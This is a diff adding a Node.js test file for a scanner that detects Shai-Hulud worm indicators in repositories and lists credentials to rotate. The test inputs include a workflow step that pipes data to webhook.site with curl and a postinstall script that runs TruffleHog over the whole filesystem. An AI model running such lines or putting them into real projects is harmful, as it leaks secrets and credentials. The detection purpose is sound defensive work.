@@ -0,0 +1,109 @@
+const { test, describe } = require('node:test');
+const assert = require('node:assert');
+const fs = require('fs');
+const os = require('os');
+const path = require('path');
+const { scanRepository, inspectWorkflow, inspectManifest, rotationChecklist } = require('../../lib/repository');
+
+const REPOSITORIES = path.join(__dirname, '../fixtures/repository');
+
+function summarize(findings) {
+    return findings.map(finding => `${finding.severity} ${finding.category} ${finding.file}${finding.line ? `:${finding.line}` : ''}`);
+}
+
+describe('Repository - Indicators', () => {
+    test('should find injected workflows, lifecycle scripts, runner registrations and artifacts', () => {
+        const result = scanRepository(path.join(REPOSITORIES, 'compromised'));
+        
+        assert.strictEqual(result.workflows, 3);
+        assert.strictEqual(result.manifests, 2);
+        assert.deepStrictEqual(summarize(result.findings), [
+            'critical workflow .github/workflows/discussion.yaml',
+            'critical workflow .github/workflows/discussion.yaml:12',
+            'warning workflow .github/workflows/discussion.yaml:8',
+            'high workflow .github/workflows/formatter_123456789.yml',
+            'critical workflow .github/workflows/formatter_123456789.yml:7',
+            'critical lifecycle-script package.json:5',
+            'high lifecycle-script packages/cli/package.json:5',
+            'critical runner .dev-env/.runner',
+            'high artifact cloud.json',
+            'critical artifact setup_bun.js',
+            'critical artifact truffleSecrets.json'
+        ]);
+    });
+
+    test('should find nothing in a clean checkout', () => {
+        assert.deepStrictEqual(scanRepository(path.join(REPOSITORIES, 'clean')).findings, []);
+    });
+
+    test('should only report common exfiltration file names as MEDIUM away from a payload', () => {
+        const { findings } = scanRepository(path.join(REPOSITORIES, 'common-names'));
+        
+        assert.deepStrictEqual(summarize(findings), ['warning artifact config/environment.json']);
+        assert.match(findings[0].message, /check its content/);
+        assert.deepStrictEqual(rotationChecklist(findings), []);
+    });
+
+    test('should match workflow content whatever the file name', () => {
+        const findings = inspectWorkflow('.github/workflows/lint.yml', 'on: push\njobs:\n  lint:\n    runs-on: [self-hosted, SHA1HULUD]\n    steps:\n      - run: curl -d @- https://webhook.site/x\n');
+        
+        assert.deepStrictEqual(findings.map(finding => `${finding.line} ${finding.message}`), [
+            '6 Sends data to webhook.site, the Shai-Hulud exfiltration endpoint',
+            '4 Targets the self-hosted runner registered by Shai-Hulud 2.0 (SHA1HULUD)',
+            '4 Runs on a self-hosted runner: check that the runner is yours'
+        ]);
+    });
+
+    test('should only check lifecycle scripts', () => {
+        const manifest = JSON.stringify({ scripts: { test: 'trufflehog filesystem .', postinstall: 'trufflehog filesystem /' } }, null, 2);
+        
+        assert.deepStrictEqual(inspectManifest('package.json', manifest).map(finding => finding.message), [
+            'Runs TruffleHog to collect secrets: "postinstall": trufflehog filesystem /'
+        ]);
+        assert.deepStrictEqual(inspectManifest('package.json', 'not json'), []);
+    });
+
+    test('should find the shai-hulud branch in refs and packed-refs', () => {
+        const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'shai-hulud-repository-'));
+        fs.mkdirSync(path.join(dir, '.git/refs/heads'), { recursive: true });
+        fs.writeFileSync(path.join(dir, '.git/refs/heads/shai-hulud'), `${'a'.repeat(40)}\n`);
+        fs.writeFileSync(path.join(dir, '.git/refs/heads/main'), `${'b'.repeat(40)}\n`);
+        fs.writeFileSync(path.join(dir, '.git/packed-refs'), `# pack-refs with: peeled fully-peeled sorted\n${'c'.repeat(40)} refs/remotes/origin/shai-hulud\n${'d'.repeat(40)} refs/tags/shai-hulud\n`);
+        
+        try {
+            assert.deepStrictEqual(summarize(scanRepository(dir).findings), [
+                'high branch .git/refs/heads/shai-hulud',
+                'high branch .git/refs/remotes/origin/shai-hulud'
+            ]);
+        } finally {
+            fs.rmSync(dir, { recursive: true, force: true });
+        }
+    });
+
+    test('should refuse a path that is not a directory', () => {
+        assert.throws(() => scanRepository(path.join(REPOSITORIES, 'clean/package.json')), /Not a directory/);
+    });
+});
+
+describe('Repository - Incident response', () => {
+    test('should list the credentials to rotate for the categories found', () => {
+        const checklist = rotationChecklist([
+            { category: 'runner', severity: 'critical', file: '.runner' },
+            { category: 'workflow', severity: 'warning', file: '.github/workflows/ci.yml' }
+        ]);
+        
+        assert.deepStrictEqual(checklist.map(item => `${item.id} ${item.files.join(',')}`), [
+            'npm .runner',
+            'github .runner',
+            'runner .runner',
+            'cloud .runner'
+        ]);
+    });
+
+    test('should cover every item for the compromised fixture and none for MEDIUM indicators only', () => {
+        const { findings } = scanRepository(path.join(REPOSITORIES, 'compromised'));
+        
+        assert.deepStrictEqual(rotationChecklist(findings).map(item => item.id), ['npm', 'github', 'actions', 'runner', 'cloud', 'files']);
+        assert.deepStrictEqual(rotationChecklist(findings.filter(finding => finding.severity === 'warning')), []);
+    });
+});